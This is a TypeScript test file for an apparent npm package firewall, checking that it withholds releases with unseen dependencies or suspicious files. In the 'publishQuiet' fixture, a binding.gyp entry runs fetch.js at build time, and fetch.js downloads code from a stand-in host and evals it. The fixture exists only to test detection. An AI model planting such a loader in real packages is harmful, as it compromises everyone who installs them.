import { FakeClock, startFakeRegistry } from "@lockkeeper/drill";
import type { FakeRegistry } from "@lockkeeper/drill";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { ask, jsonOf } from "../support/ask.ts";
import type { FirewallUnderTest } from "../support/running-firewall.ts";
import { startFirewallUnderTest } from "../support/running-firewall.ts";

const npmAgent = { "user-agent": "npm/11.6.0 node/v20.19.0 linux x64 workspaces/false" };
/** Nothing but inspections withholds anything. */
const policy = "version: 1\npreset: relaxed\ncooldown: { effect: off }\n";

let registry: FakeRegistry;
let clock: FakeClock;
let firewall: FirewallUnderTest | undefined;

beforeEach(async () => {
  clock = new FakeClock("2026-06-10T12:00:00Z");
  registry = await startFakeRegistry({ clock });
  registry.publish({ name: "parent", version: "1.0.0" }, { at: "2024-01-01T00:00:00Z" });
  registry.publish(
    { name: "odd-helper", version: "1.0.0", scripts: { postinstall: "node setup.js" } },
    { at: "2026-06-10T11:00:00Z", publisher: { name: "stranger", email: "s@mail.example" } },
  );
  registry.publish(
    { name: "parent", version: "1.0.1", dependencies: { "odd-helper": "^1.0.0" } },
    { at: "2026-06-10T11:20:00Z" },
  );
});

afterEach(async () => {
  await firewall?.close();
  firewall = undefined;
  await registry.close();
});

async function start(
  options: { readonly policy?: string; readonly isObserving?: boolean } = {},
): Promise<string> {
  firewall = await startFirewallUnderTest({ upstream: registry.url, clock, policy, ...options });
  return firewall.url;
}

interface Served {
  readonly versions: Readonly<Record<string, unknown>>;
  readonly "dist-tags": Readonly<Record<string, string>>;
  readonly policyRestrictions?: { readonly message: string };
}

async function packumentOf(url: string, name: string): Promise<Served> {
  // as: the firewall's own answer
  return jsonOf(await ask(url, `/${name}`, { headers: npmAgent })) as unknown as Served;
}

/** Two quiet years, and then a release whose document is as ever and whose files run a stranger's command at install. */
function publishQuiet(): void {
  const sources = '{ "targets": [{ "target_name": "x", "sources": ["<!(node fetch.js > /dev/null)"] }] }';
  const fetcher =
    'require("https").get("https://drop.invalid/a", (a) => a.on("data", (b) => eval(b.toString())));';
  const files = [
    { path: "binding.gyp", content: sources },
    { path: "fetch.js", content: fetcher },
  ];
  registry.publish({ name: "quiet", version: "1.0.0" }, { at: "2024-06-01T00:00:00Z" });
  registry.publish({ name: "quiet", version: "1.0.1" }, { at: "2026-01-01T00:00:00Z" });
  registry.publish({ name: "quiet", version: "1.0.2" }, { at: "2026-06-08T00:00:00Z", files });
}

describe("the clause inspect", () => {
  test("withholds a release that nobody knows before it is served, and falls back to the one before", async () => {
    const url = await start();

    const served = await packumentOf(url, "parent");

    expect(Object.keys(served.versions)).toEqual(["1.0.0"]);
    expect(served["dist-tags"]).toEqual({ latest: "1.0.0" });
    expect(served.policyRestrictions?.message).toContain("Lockkeeper withholds parent 1.0.1: inspect");
  });

  test("refuses its tarball to who has it locked, and says why", async () => {
    const url = await start();

    const answer = await ask(url, "/parent/-/parent-1.0.1.tgz", { headers: npmAgent });

    expect(answer.status).toBe(403);
    expect(JSON.stringify(jsonOf(answer))).toContain("odd-helper");
  });

  test("lists a release that is like those before it at once, and reads none of it before its tarball is asked for", async () => {
    publishQuiet();
    const url = await start();
    registry.clearRequests();

    const served = await packumentOf(url, "quiet");

    expect(served["dist-tags"]).toEqual({ latest: "1.0.2" });
    expect(registry.requests.map(({ path }) => path)).toEqual(["/quiet"]);
  });

  test("refuses the tarball of a release that only its bytes tell of, and lists it no more", async () => {
    publishQuiet();
    const url = await start();
    await packumentOf(url, "quiet");

    const refused = await ask(url, "/quiet/-/quiet-1.0.2.tgz", { headers: npmAgent });
    const served = await packumentOf(url, "quiet");

    expect(refused.status).toBe(403);
    expect(jsonOf(refused)["error"]).toContain("inspect");
    expect(served["dist-tags"]).toEqual({ latest: "1.0.1" });
    expect(served.policyRestrictions?.message).toContain("Lockkeeper withholds quiet 1.0.2: inspect");
  });

  test("explains what was found", async () => {
    const url = await start();

    const explained = jsonOf(await ask(url, "/-/lockkeeper/decision/parent/1.0.1"));

    expect(explained).toMatchObject({
      decision: "block",
      clause: "inspect",
      facts: { inspection: { state: "present", verdict: "block" } },
    });
    expect(JSON.stringify(explained)).toContain("dependency-unseen");
  });

  test("serves what is old at once, and looks at it afterwards", async () => {
    const url = await start();

    const answer = await ask(url, "/parent/-/parent-1.0.0.tgz", { headers: npmAgent });
    await expect
      .poll(async () => JSON.stringify(jsonOf(await ask(url, "/-/lockkeeper/decision/parent/1.0.0"))), {
        timeout: 10_000,
      })
      .toContain('"verdict":"allow"');

    expect(answer.status).toBe(200);
  });

  test("serves everything when it is off, or only observes", async () => {
    const off = await start({ policy: `${policy}inspect: { effect: off }\n` });
    const servedOff = await packumentOf(off, "parent");
    await firewall?.close();

    const observing = await start({ isObserving: true });
    const servedObserving = await packumentOf(observing, "parent");

    expect(servedOff["dist-tags"]).toEqual({ latest: "1.0.1" });
    expect(servedObserving["dist-tags"]).toEqual({ latest: "1.0.1" });
  });

  test("falls under the clause for the unknown when the time is over, until the inspection is done", async () => {
    const url = await start({ policy: `${policy}inspect: { budget: 50ms }\n` });
    await ask(url, "/parent/-/parent-9.0.0.tgz");
    registry.latencyMs = 300;

    const early = jsonOf(await ask(url, "/-/lockkeeper/decision/parent/1.0.1"));

    expect(early).toMatchObject({ decision: "unknown", effect: "hold", clause: "unknown" });
    await expect
      .poll(async () => jsonOf(await ask(url, "/-/lockkeeper/decision/parent/1.0.1"))["clause"], {
        timeout: 5000,
      })
      .toBe("inspect");
  });

  test("asks nothing again of what it has looked at", async () => {
    const url = await start();
    await packumentOf(url, "parent");
    registry.clearRequests();

    await packumentOf(url, "parent");

    expect(registry.requests).toEqual([]);
  });
});
